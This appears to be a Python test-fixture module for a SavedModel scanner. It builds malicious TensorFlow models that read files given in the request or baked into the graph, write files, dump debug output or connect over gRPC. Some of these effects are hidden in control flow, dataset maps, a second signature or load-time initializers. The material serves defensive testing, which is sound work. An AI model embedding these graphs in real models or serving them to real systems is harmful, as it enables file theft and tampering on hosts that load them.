"""The attack zoo: SavedModels, built with plain TensorFlow, whose graphs touch files (or the
network) when TensorFlow runs them. The SavedModel scanner must refuse every one of them.

Each builder is `build_<name>(path, target) -> path`: it writes a SavedModel into `path` and bakes
the absolute path `target` (chosen by the test, e.g. inside its tmp dir) into the graph. Unless
noted, the `serving_default` signature takes one input `x`, float32 [None], and answers one
output `y` with the same batch size, so a generic server can be called with {"instances": [1.0]}.

How a test uses an attack:

    prepare_target(name, target)        # writes what a reading attack reads (no-op for writers)
    build_<name>(model_dir, target)     # or ATTACKS[name](model_dir, target)
    ... load / serve it, send signature_inputs(name, target) ...
    effect_seen(name, target, response) # True if the attack did its damage

`PROOF[name]` says what proves that an attack ran:
- "creates": `proof_path(name, target)` exists after the signature was called;
- "creates_on_load": the same, but already after loading, with no request at all;
- "reveals": the response contains `revealed(name)` (the content `prepare_target` put in `target`);
- "dumps": files appear under the directory `target`;
- "connects": the model opens a TCP connection to 127.0.0.1:DEBUG_GRPC_PORT (never verified to
  succeed; it is there for the scanner, not for execution).

TensorFlow is imported inside the builders: importing it takes seconds.
"""
from __future__ import annotations

import struct
from pathlib import Path
from typing import Callable

# What `prepare_target` writes into files that reading attacks read. Its length is a multiple of
# 4 so a 4-byte fixed-length-record reader returns all of it.
SECRET = "attack-zoo-secret-7f3a0c"
assert len(SECRET) % 4 == 0
# ImmutableConst reinterprets the first 4 bytes of its file as one float32.
IMMUTABLE_VALUE = 1234.5
WRITTEN = "pwned"  # what the writing attacks write
DEBUG_GRPC_PORT = 6064  # tfdbg's conventional port


def _spec():
    import tensorflow as tf

    return tf.TensorSpec([None], tf.float32, name="x")


def _save(module, path: Path, signatures=None) -> Path:
    import tensorflow as tf

    tf.saved_model.save(module, str(path), signatures=module.serve if signatures is None
                        else signatures)
    return Path(path)


def _broadcast(x, value):
    """`value` (a scalar) once per row of `x`, so row-format responses work."""
    import tensorflow as tf

    return tf.fill(tf.shape(x), value)


def _join_all(dataset):
    """Every element of a string dataset (at most 100), concatenated."""
    import tensorflow as tf

    return dataset.take(100).reduce(tf.constant(""), lambda acc, s: tf.strings.join([acc, s]))


# --- reading ---------------------------------------------------------------------------------

def build_read_file(path: Path, target: Path) -> Path:
    """`y` = tf.io.read_file(<constant target>). Target: a file (prepare_target writes SECRET).
    Proof: the response contains SECRET."""
    import tensorflow as tf

    class ReadFile(tf.Module):
        @tf.function(input_signature=[_spec()])
        def serve(self, x):
            return {"y": _broadcast(x, tf.io.read_file(str(target)))}

    return _save(ReadFile(), path)


def build_read_file_from_input(path: Path, target: Path) -> Path:
    """The request names the file: input `path` string [None], `y` = read_file of each path.
    `target` is not baked in (the request carries it). Target: a file with SECRET.
    Proof: the response to {"instances": [str(target)]} contains SECRET."""
    import tensorflow as tf

    class ReadFromInput(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([None], tf.string, name="path")])
        def serve(self, path):
            return {"y": tf.map_fn(tf.io.read_file, path, fn_output_signature=tf.string)}

    return _save(ReadFromInput(), path)


def build_matching_files_textline(path: Path, target: Path) -> Path:
    """Lists the folder `target` (tf.io.matching_files(target/*)) and reads the files' lines with
    tf.data.TextLineDataset; `y` = the first lines (up to 100) concatenated. Target: a directory
    holding one text file whose only line is SECRET. Proof: the response contains SECRET."""
    import tensorflow as tf

    class Glob(tf.Module):
        @tf.function(input_signature=[_spec()])
        def serve(self, x):
            files = tf.io.matching_files(str(target) + "/*")
            return {"y": _broadcast(x, _join_all(tf.data.TextLineDataset(files)))}

    return _save(Glob(), path)


def write_tfrecord(path: Path, records: list[bytes]) -> Path:
    """A TFRecord file holding `records`, written by tf.io.TFRecordWriter."""
    import tensorflow as tf

    with tf.io.TFRecordWriter(str(path)) as writer:
        for record in records:
            writer.write(record)
    return Path(path)


def build_tfrecord_dataset(path: Path, target: Path) -> Path:
    """`y` = the records of tf.data.TFRecordDataset(target), concatenated. Target: a TFRecord file
    (prepare_target writes one record, SECRET, with write_tfrecord). Proof: the response contains
    SECRET."""
    import tensorflow as tf

    class Records(tf.Module):
        @tf.function(input_signature=[_spec()])
        def serve(self, x):
            return {"y": _broadcast(x, _join_all(tf.data.TFRecordDataset(str(target))))}

    return _save(Records(), path)


def build_fixed_length_record_dataset(path: Path, target: Path) -> Path:
    """`y` = the 4-byte records of tf.data.FixedLengthRecordDataset(target, record_bytes=4),
    concatenated. Target: a file whose size is a multiple of 4 (SECRET is). Proof: the response
    contains SECRET."""
    import tensorflow as tf

    class Fixed(tf.Module):
        @tf.function(input_signature=[_spec()])
        def serve(self, x):
            dataset = tf.data.FixedLengthRecordDataset(str(target), record_bytes=4)
            return {"y": _broadcast(x, _join_all(dataset))}

    return _save(Fixed(), path)


def build_immutable_const(path: Path, target: Path) -> Path:
    """tf.raw_ops.ImmutableConst(float32, shape [1], memory_region_name=target): the kernel mmaps
    the file and hands out its first 4 bytes as a float; `y` = x * 0 + that float. Target: a file
    of at least 4 bytes (prepare_target writes IMMUTABLE_VALUE as little-endian float32). A missing
    file makes the call fail. Proof: the response contains 1234.5."""
    import tensorflow as tf

    class Immutable(tf.Module):
        @tf.function(input_signature=[_spec()])
        def serve(self, x):
            value = tf.raw_ops.ImmutableConst(dtype=tf.float32, shape=[1],
                                              memory_region_name=str(target))
            return {"y": x * 0.0 + value}

    return _save(Immutable(), path)


# --- writing ---------------------------------------------------------------------------------

def build_write_file(path: Path, target: Path) -> Path:
    """tf.io.write_file(target, "pwned"), ignoring the input; `y` = x. Proof: target exists."""
    import tensorflow as tf

    class Write(tf.Module):
        @tf.function(input_signature=[_spec()])
        def serve(self, x):
            with tf.control_dependencies([tf.io.write_file(str(target), WRITTEN)]):
                return {"y": tf.identity(x)}

    return _save(Write(), path)


def build_save_v2(path: Path, target: Path) -> Path:
    """A checkpoint written from the signature: tf.raw_ops.SaveV2(prefix=target) saving `x`, which
    creates target.index and target.data-00000-of-00001. Proof: target.index exists."""
    import tensorflow as tf

    class Save(tf.Module):
        @tf.function(input_signature=[_spec()])
        def serve(self, x):
            save = tf.raw_ops.SaveV2(prefix=str(target), tensor_names=["x"],
                                     shape_and_slices=[""], tensors=[x])
            # Automatic control dependencies leave SaveV2 out of the function's control outputs,
            # so without this it would be in the graph but never run.
            with tf.control_dependencies([save]):
                return {"y": tf.identity(x)}

    return _save(Save(), path)


def build_print_to_file(path: Path, target: Path) -> Path:
    """tf.print(x, output_stream="file://<target>") (PrintV2 appends to the file); `y` = x.
    Proof: target exists."""
    import tensorflow as tf

    class Print(tf.Module):
        @tf.function(input_signature=[_spec()])
        def serve(self, x):
            with tf.control_dependencies([tf.print(x, output_stream="file://" + str(target))]):
                return {"y": tf.identity(x)}

    return _save(Print(), path)


def build_debug_identity(path: Path, target: Path) -> Path:
    """`y` = tf.raw_ops.DebugIdentityV3(x, debug_urls=["file://<target>"]): the tfdbg v1 dumper
    writes x into <target>/_tfdbg_device_/x_0_DebugIdentityV3_<timestamp> (creating the folders).
    Target: a directory (need not exist). Proof: files appear under target."""
    import tensorflow as tf

    class Debug(tf.Module):
        @tf.function(input_signature=[_spec()])
        def serve(self, x):
            return {"y": tf.raw_ops.DebugIdentityV3(input=x, tensor_name="x:0",
                                                    debug_urls=["file://" + str(target)])}

    return _save(Debug(), path)


def build_debug_identity_grpc(path: Path, target: Path | None = None,
                              port: int = DEBUG_GRPC_PORT) -> Path:
    """`y` = tf.raw_ops.DebugIdentity(x, debug_urls=["grpc://127.0.0.1:<port>"]): the tfdbg v1
    gRPC client streams x to a debug server. `target` is unused. Proof (not checked by
    effect_seen): a connection to 127.0.0.1:<port>. Do not call it without a listener: the client
    retries for a while before it fails."""
    import tensorflow as tf

    class DebugGrpc(tf.Module):
        @tf.function(input_signature=[_spec()])
        def serve(self, x):
            return {"y": tf.raw_ops.DebugIdentity(input=x, tensor_name="x:0",
                                                  debug_urls=[f"grpc://127.0.0.1:{port}"])}

    return _save(DebugGrpc(), path)


# --- writes hidden in control flow, tf.data functions, other signatures, load time -----------

def _write(target: Path):
    import tensorflow as tf

    return tf.io.write_file(str(target), WRITTEN)


def build_write_in_while_loop(path: Path, target: Path) -> Path:
    """The write sits in the body of a tf.while_loop (a While op's body function) that runs once.
    `y` = x. Proof: target exists."""
    import tensorflow as tf

    class Loop(tf.Module):
        @tf.function(input_signature=[_spec()])
        def serve(self, x):
            def body(i):
                with tf.control_dependencies([_write(target)]):
                    return i + 1

            (n,) = tf.while_loop(lambda i: i < 1, body, (tf.constant(0),))
            with tf.control_dependencies([n]):
                return {"y": tf.identity(x)}

    return _save(Loop(), path)


def build_write_in_cond(path: Path, target: Path) -> Path:
    """The write sits in the true branch of a tf.cond on the input (taken when any element of x is
    positive, so for [1.0]). `y` = x. Proof: target exists."""
    import tensorflow as tf

    class Cond(tf.Module):
        @tf.function(input_signature=[_spec()])
        def serve(self, x):
            def write():
                with tf.control_dependencies([_write(target)]):
                    return tf.identity(x)

            return {"y": tf.cond(tf.reduce_max(x) > 0.0, write, lambda: tf.identity(x))}

    return _save(Cond(), path)


def build_write_in_dataset_map(path: Path, target: Path) -> Path:
    """The write sits in the map function of tf.data.Dataset.from_tensor_slices(x).map(f), reduced
    inside the signature (one write per element of x). `y` = x + 0 * sum. Proof: target exists."""
    import tensorflow as tf

    class DatasetMap(tf.Module):
        @tf.function(input_signature=[_spec()])
        def serve(self, x):
            def f(v):
                with tf.control_dependencies([_write(target)]):
                    return tf.identity(v)

            total = tf.data.Dataset.from_tensor_slices(x).map(f).reduce(
                tf.constant(0.0), lambda acc, v: acc + v)
            return {"y": x + 0.0 * total}

    return _save(DatasetMap(), path)


def build_write_in_second_signature(path: Path, target: Path) -> Path:
    """`serving_default` is harmless (y = x + 1); the signature "other" (same input and output)
    does the write. Proof: target exists after a request with "signature_name": "other"."""
    import tensorflow as tf

    class TwoSignatures(tf.Module):
        @tf.function(input_signature=[_spec()])
        def serve(self, x):
            return {"y": x + 1.0}

        @tf.function(input_signature=[_spec()])
        def other(self, x):
            with tf.control_dependencies([_write(target)]):
                return {"y": tf.identity(x)}

    module = TwoSignatures()
    return _save(module, path, signatures={"serving_default": module.serve,
                                            "other": module.other})


def build_write_at_load(path: Path, target: Path) -> Path:
    """A TrackableResource whose _initialize writes target. TF2's tf.saved_model.load calls it
    while loading, and TF2 exports also wire it into "__saved_model_init_op", which the C++ loader
    (TF Serving) and the v1 loader run. `serving_default` is harmless (y = x + 1).
    Proof: target exists right after loading, before any request."""
    import tensorflow as tf

    class WritingResource(tf.saved_model.experimental.TrackableResource):
        def _create_resource(self):
            return tf.raw_ops.HashTableV2(key_dtype=tf.string, value_dtype=tf.int64)

        def _initialize(self):
            return _write(target)

    class AtLoad(tf.Module):
        def __init__(self):
            super().__init__()
            self.resource = WritingResource()

        @tf.function(input_signature=[_spec()])
        def serve(self, x):
            return {"y": x + 1.0}

    return _save(AtLoad(), path)


ATTACKS: dict[str, Callable[..., Path]] = {
    "read_file": build_read_file,
    "read_file_from_input": build_read_file_from_input,
    "matching_files_textline": build_matching_files_textline,
    "tfrecord_dataset": build_tfrecord_dataset,
    "fixed_length_record_dataset": build_fixed_length_record_dataset,
    "immutable_const": build_immutable_const,
    "write_file": build_write_file,
    "save_v2": build_save_v2,
    "print_to_file": build_print_to_file,
    "debug_identity": build_debug_identity,
    "debug_identity_grpc": build_debug_identity_grpc,
    "write_in_while_loop": build_write_in_while_loop,
    "write_in_cond": build_write_in_cond,
    "write_in_dataset_map": build_write_in_dataset_map,
    "write_in_second_signature": build_write_in_second_signature,
    "write_at_load": build_write_at_load,
}

PROOF: dict[str, str] = {
    "read_file": "reveals",
    "read_file_from_input": "reveals",
    "matching_files_textline": "reveals",
    "tfrecord_dataset": "reveals",
    "fixed_length_record_dataset": "reveals",
    "immutable_const": "reveals",
    "write_file": "creates",
    "save_v2": "creates",
    "print_to_file": "creates",
    "debug_identity": "dumps",
    "debug_identity_grpc": "connects",
    "write_in_while_loop": "creates",
    "write_in_cond": "creates",
    "write_in_dataset_map": "creates",
    "write_in_second_signature": "creates",
    "write_at_load": "creates_on_load",
}
assert PROOF.keys() == ATTACKS.keys()
# The attacks whose effect `effect_seen` can check (all but the gRPC one, which needs a listener).
OBSERVABLE = [name for name, kind in PROOF.items() if kind != "connects"]


def prepare_target(name: str, target: Path) -> None:
    """Puts in place what attack `name` reads: a file with SECRET, a folder holding such a file,
    a TFRecord file, or IMMUTABLE_VALUE as float32. Nothing for the other attacks (the folders
    above target must exist already)."""
    target = Path(target)
    if name in ("read_file", "read_file_from_input", "fixed_length_record_dataset"):
        target.write_text(SECRET)
    elif name == "matching_files_textline":
        target.mkdir(parents=True, exist_ok=True)
        (target / "secret.txt").write_text(SECRET + "\n")
    elif name == "tfrecord_dataset":
        write_tfrecord(target, [SECRET.encode()])
    elif name == "immutable_const":
        target.write_bytes(struct.pack("<f", IMMUTABLE_VALUE))


def signature_inputs(name: str, target: Path | None = None) -> dict:
    """A JSON-able TF Serving :predict body that triggers attack `name` (`target` is needed only
    by read_file_from_input, whose request carries the path)."""
    if name == "read_file_from_input":
        if target is None:
            raise ValueError("read_file_from_input reads the path given in the request")
        return {"instances": [str(target)]}
    if name == "write_in_second_signature":
        return {"signature_name": "other", "instances": [1.0]}
    return {"instances": [1.0]}


def revealed(name: str) -> str:
    """The text a "reveals" attack puts into its response."""
    return repr(IMMUTABLE_VALUE) if name == "immutable_const" else SECRET


def proof_path(name: str, target: Path) -> Path:
    """The file (for "dumps": the folder) whose existence proves a writing attack ran."""
    target = Path(target)
    if name == "save_v2":
        return target.with_name(target.name + ".index")
    return target


def effect_seen(name: str, target: Path, response: object = "") -> bool:
    """Whether attack `name` did its damage: `response` is whatever came back (text, bytes, parsed
    JSON or tensors; it is searched as text) and matters only for "reveals" attacks."""
    kind = PROOF[name]
    if kind == "reveals":
        text = response.decode(errors="replace") if isinstance(response, bytes) else str(response)
        return revealed(name) in text
    if kind in ("creates", "creates_on_load"):
        return proof_path(name, target).exists()
    if kind == "dumps":
        folder = Path(target)
        return folder.is_dir() and any(p.is_file() for p in folder.rglob("*"))
    raise ValueError(f"{name}: effect ({kind}) is not checked by effect_seen")
